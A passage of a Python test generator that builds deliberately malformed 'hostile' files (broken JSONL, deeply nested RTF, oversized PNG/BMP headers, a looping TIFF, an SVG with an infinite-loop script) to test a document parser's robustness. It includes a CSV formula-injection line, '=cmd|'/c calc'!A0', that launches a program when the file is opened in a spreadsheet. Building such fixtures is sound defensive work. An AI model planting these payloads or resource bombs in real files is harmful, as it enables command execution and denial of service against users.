    lines = "\n".join([f'{{"text": "{SENTENCE}"}}', '{"text": ', "", f'{{"text": "{SENTENCE}"}}'] * 20)
    yield read("text/broken lines.jsonl", lines.encode(), "Every fourth line is cut off", "broken")
    yield either(
        "text/deep.rtf",
        b"{\\rtf1" + b"{" * 200_000 + SENTENCE.encode() + b"}" * 200_000,
        "Groups within groups, 200,000 deep",
    )
    yield either(
        "text/vast binary.rtf",
        f"{{\\rtf1 {SENTENCE}\\bin2000000000 x}}".encode(),
        "A picture said to be two thousand million bytes long",
    )
    yield read(
        "text/odd numbers.rtf",
        f"{{\\rtf1\\uc9999999\\u-99999 {SENTENCE} \\'zz\\u1234567890 }} {SENTENCE}".encode(),
        "Numbers that there cannot be",
        "broken",
    )


def _tables() -> Iterator[Hostile]:
    yield read(
        "text/open quote.csv",
        f'a,b\n"{SENTENCE},1\n'.encode() + b"c,d\n" * 50_000,
        "A quotation mark that is never closed",
    )
    yield read("text/wide.csv", (",".join(map(str, range(20_000))) + "\n" + SENTENCE).encode(), "20,000 columns")
    yield read(
        "text/long field.csv", f'a,b\n"{"x " * 200_000}","{SENTENCE}"\n'.encode(), "A field of 400,000 characters"
    )
    yield read("text/formulas.csv", f"a,b\n=cmd|'/c calc'!A0,{SENTENCE}\n".encode(), "Formulas that start a program")
    yield read("text/uneven.tsv", f"a\tb\tc\n1\n{SENTENCE}\t2\t3\t4\t5\t6\n\n\n".encode(), "Rows of different lengths")
    yield either("text/zeros.csv", f"a,b\n{SENTENCE},\0\0\n".encode(), "Bytes of zero in it")


def pictures() -> Iterator[Hostile]:
    """Pictures that lie about their size or never end."""
    vast = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0)
    chunk = struct.pack(">I", 13) + b"IHDR" + vast + struct.pack(">I", zlib.crc32(b"IHDR" + vast))
    yield problem(
        "picture/vast.png",
        b"\x89PNG\r\n\x1a\n" + chunk + picture()[33:],
        "It says that it is 60,000 dots wide and high",
        "memory",
        "bomb",
        *DAMAGED,
    )
    tiff = b"II*\x00\x08\x00\x00\x00" + struct.pack("<HHHIII", 1, 256, 4, 1, 1, 8)
    yield problem(
        "picture/pages of themselves.tif", tiff, "A first page that is followed by itself", *DAMAGED, "timeout"
    )
    yield problem(
        "picture/no data.jpg",
        b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xd9",
        "A picture without a picture",
    )
    yield problem(
        "picture/negative.bmp",
        b"BM" + struct.pack("<IHHIIiiHHIIiiII", 70, 0, 0, 54, 40, -9, 2_000_000_000, 1, 24, 0, 0, 0, 0, 0, 0),
        "A height of two thousand million dots and a negative width",
        *DAMAGED,
        "memory",
    )
    yield read(
        "picture/with a script.svg",
        f'<svg xmlns="http://www.w3.org/2000/svg"><script>while(1){{}}</script><text>{SENTENCE}</text></svg>'.encode(),
        "A drawing with a script",
    )


def all_documents(seed: int) -> Iterator[Hostile]:
    """Every hostile document."""
    yield from damaged(random.Random(seed))
    yield from misnamed()
    yield from pdfs()
    yield from office()
    yield from texts()
    yield from pictures()
